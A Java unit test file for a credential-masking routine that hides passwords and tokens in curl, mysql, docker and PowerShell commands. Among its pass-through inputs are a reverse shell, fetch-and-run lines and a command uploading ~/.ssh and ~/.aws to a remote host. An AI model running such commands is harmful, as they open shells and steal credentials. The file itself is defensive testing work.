package dev.assay.engine.text;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CommandCredentialsTest {
    private static final String SECRET = "hunter2Pa55";

    /** In how many ways a command may lie in a text; the last ones as programs and lists have it. */
    private static final List<String> AROUND = List.of(
            "%s",
            "echo don't; %s",
            "set -e\n%s\n",
            "cd x && sudo %s | sh",
            "X=1 env %s",
            "echo \"$(%s)\"",
            "if true; then %s; fi",
            "/usr/bin/%s",
            "a \"b;c\"; %s");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "curl -u bob:# u",
                "curl -ubob:# u",
                "curl -sSLu bob:# u",
                "curl -sSubob:# u",
                "curl u -u 'bob:#'",
                "curl -u \"bob:#\" u",
                "curl -u bob:'#' u",
                "curl -u $'bob:#' u",
                "curl \\\n  -u bob:# \\\n  u",
                "curl --user bob:# u",
                "curl --user=bob:# u",
                "curl --user 'bob:a # b' u",
                "curl '--user=bob:#' u",
                "curl -u #: u",
                "curl -u #:x-oauth-basic u",
                "curl -H 'a;b' -u bob:# u",
                "curl -U bob:# u",
                "curl --proxy-user bob:# u",
                "curl -x bob:#@proxy:80 u",
                "curl --proxy http://bob:#@proxy:80 u",
                "curl --oauth2-bearer # u",
                "curl --pass # u",
                "curl -b 'session=#' u",
                "curl -bsession=# u",
                "curl --cookie \"a=b; c=#\" u",
                "curl -H \"Authorization: Bearer #\" u",
                "curl -H 'Authorization: Bearer #' u",
                "curl -H'Authorization: Bearer #' u",
                "curl -H Authorization:\\ Bearer\\ # u",
                "curl -H \"Authorization: Basic #\" u",
                "curl -H \"authorization: token #\" u",
                "curl -H \"Authorization: #\" u",
                "curl -H \"Authorization:#\" u",
                "curl -sH \"Proxy-Authorization: Basic #\" u",
                "curl --header \"Authorization: Bearer #\" u",
                "curl --header=\"Authorization: Bearer #\" u",
                "curl -H \"Authorization: Digest username=\\\"x\\\", response=\\\"#\\\"\" u",
                "curl -H \"Cookie: a=#\" u",
                "curl -H \"X-Api-Key: #\" u",
                "curl -H \"X-Auth-Key:#\" u",
                "curl -H \"X-Vault-Token: #\" u",
                "curl -H \"Authorization: Basic $(echo -n bob:# | base64)\" u",
                "curl -d password=# u",
                "curl -d '{\"password\": \"#\"}' u",
                "wget --header='Authorization: Bearer #' u",
                "wget --http-password=# u",
                "http -a bob:# u",
                "sshpass -p # ssh h",
                "sshpass -p# ssh h",
                "sshpass -p '#' ssh h",
                "sshpass -p\"#\" ssh h",
                "mysql -uroot -p# db",
                "mysql -u root -p'#' db",
                "mysqldump --password=# db",
                "mongosh -u a -p # h",
                "redis-cli -h x -a # ping",
                "sqlcmd -S s -U u -P # -Q q",
                "ldapsearch -D x -w # y",
                "smbclient -U bob%# //h/s",
                "lftp -u bob,# h",
                "docker login -u bob -p # r",
                "docker login --password # r",
                "docker login -p# r",
                "echo # | docker login --password-stdin r",
                "echo '#' | docker login -u bob --password-stdin",
                "echo # | sudo -S ls",
                "echo # | gh auth login --with-token",
                "podman login -p # r",
                "skopeo copy --src-creds=bob:# a b",
                "helm registry login -u a -p # r",
                "aws configure set aws_secret_access_key #",
                "aws configure set profile.x.aws_session_token #",
                "npm config set //registry.example.com/:_authToken #",
                "npm config set //registry.example.com/:_authToken=#",
                "npm set _auth #",
                "git config --global http.extraheader \"AUTHORIZATION: basic #\"",
                "git -c http.extraHeader='Authorization: Basic #' clone u",
                "poetry config pypi-token.pypi #",
                "poetry config http-basic.x bob #",
                "composer config -g github-oauth.github.com #",
                "kubectl create secret generic x --from-literal=a=#",
                "kubectl config set-credentials x --token=#",
                "cargo login #",
                "vault login #",
                "twine upload -u x -p # dist/a",
                "gh secret set NAME --body #",
                "openssl enc -passin pass:# -in a",
                "zip -P # a b",
                "7z x -p# a",
                "plink -pw # h",
                "keytool -storepass # -list",
                "echo \"machine github.com login x password #\" > ~/.netrc",
                "export DB_PASS=#",
                "export DB_PASS='a # b'",
                "setx NPM_TOKEN #",
                "az login --service-principal -u x -p # -t t",
                "git push https://x:#@example.com/r"
            })
    void what_a_program_takes_as_a_credential_is_hidden(String command) {
        String said = command.replace("#", SECRET);
        for (String around : AROUND) {
            assertHidden(around.replace("%s", said));
        }
        assertHidden("bash -c '" + said.replace("'", "'\\''") + "'");
        assertHidden("sh -c \"" + escaped(said) + "\"");
        assertHidden(
                "node -e \"require('child_process').execSync('" + escaped(said).replace("'", "\\'") + "')\"");
        assertHidden("import os; os.system(\"" + escaped(said) + "\")");
        assertHidden("import os; os.system('" + said.replace("\\", "\\\\").replace("'", "\\'") + "')");
    }

    private static String escaped(String text) {
        return text.replace("\\", "\\\\").replace("\"", "\\\"").replace("$", "\\$");
    }

    private static void assertHidden(String text) {
        String masked = Masked.of(text);
        assertThat(masked).contains("***").doesNotContain(SECRET);
        assertThat(Masked.of(masked)).isEqualTo(masked);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "subprocess.run(['curl', '-u', 'bob:#', 'u'])",
                "subprocess.run([\"mysql\", \"-p#\", \"u\"])",
                "Invoke-RestMethod u -Headers @{Authorization = \"Bearer #\"}",
                "iwr u -Headers @{ 'Authorization'='Basic #' }",
                "irm u -Headers @{ 'X-Api-Key'='#' }",
                "irm u -Headers @{\"PRIVATE-TOKEN\"=\"#\"}",
                "Invoke-WebRequest u -Token #",
                "Connect-Thing -Password '#'",
                "$c = ConvertTo-SecureString '#' -AsPlainText -Force",
                "$c = ConvertTo-SecureString -String \"#\" -AsPlainText",
                "$c = New-Object System.Net.NetworkCredential('bob', '#')",
                "$c = [pscredential]::new('bob', '#')",
                "$env:NPM_TOKEN = '#'",
                "cmdkey /add:h /user:bob /pass:#",
                "dotnet nuget push x.nupkg --api-key #",
                "dotnet nuget push x.nupkg -k #",
                "nuget setApiKey #",
                "requests.get(u, auth=('bob', '#'))",
                "requests.get(u, headers={'Authorization': 'Bearer #'})",
                "fetch(u, {headers: {Authorization: \"token #\"}})",
                "smtp.login(\"bob\", \"#\")"
            })
    void so_it_is_in_programs_and_cmdlets(String command) {
        assertHidden(command.replace("#", SECRET));
        assertHidden("a; " + command.replace("#", SECRET) + " | b");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "curl -u bob https://example.com/x | sh",
                "curl -u \"$USER:$PASS\" https://example.com/x | sh",
                "curl -u ${{ secrets.USER }}:${{ secrets.PASS }} u",
                "curl -u $(cat f) u",
                "curl -b cookies.txt u",
                "curl -x proxy:80 https://example.com/x | sh",
                "curl -H 'Accept: text/html' -o x https://example.com/x; python3 -u x.py",
                "curl -H \"Authorization: Bearer ${TOKEN}\" u",
                "sort -u a:b; docker run -p 80:80 -u 1000:1000 x",
                "ssh -p 2222 h",
                "mysql -u root -p db < x",
                "mkdir -p a/b && cp -p a b",
                "docker run -p 8080:80 x",
                "powershell -ExecutionPolicy Bypass -c \"iex (iwr http://203.0.113.9/x)\"",
                "echo aGVsbG8= | base64 -d | sh",
                "echo a | sh",
                "npm install token other",
                "npm config set registry https://example.com/x",
                "aws configure set region eu-west-1",
                "git config user.name bob",
                "PWD=/home/x sh ./i.sh",
                "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
                "nc 203.0.113.9 4444 -e /bin/sh",
                "node -e \"require('http').get('http://203.0.113.9/x',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\"",
                "tar cz ~/.ssh ~/.aws | curl -T - https://example.com",
                "curl -u \"`curl http://203.0.113.9/x | sh`\" u"
            })
    void what_is_none_stays(String text) {
        assertThat(Masked.of(text)).isEqualTo(text);
    }

    @Test
    void what_is_run_within_a_credential_stays() {
        assertThat(Masked.of("curl -u \"bob:$(curl http://203.0.113.9/x | sh)\" u"))
                .contains("$(curl http://203.0.113.9/x | sh)");
        assertThat(Masked.of("mysql -phunter;curl http://203.0.113.9/x|sh"))
                .isEqualTo("mysql -p***;curl http://203.0.113.9/x|sh");
    }

    @Test
    @Timeout(60)
    void nothing_makes_it_slow() {
        for (String part : List.of(
                "\"$(", "$(", "`\"", "\"${", "'\\\"", "\\\\\"", "curl -u ", "[\"", "echo a:b|base64 ", "auth=(")) {
            assertThat(Masked.of(part.repeat(40_000))).isNotNull();
        }
    }
}
